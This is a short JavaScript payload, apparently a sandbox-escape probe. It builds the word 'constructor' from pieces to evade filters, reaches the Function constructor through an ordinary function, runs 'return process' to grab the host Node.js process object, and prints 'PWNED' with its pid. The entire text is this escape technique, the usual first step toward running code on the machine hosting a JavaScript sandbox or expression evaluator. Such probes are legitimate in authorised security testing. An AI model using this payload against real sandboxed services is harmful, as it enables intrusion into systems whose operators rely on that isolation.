const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
console.log('PWNED', C.prototype.go(fn)('return process')().pid);
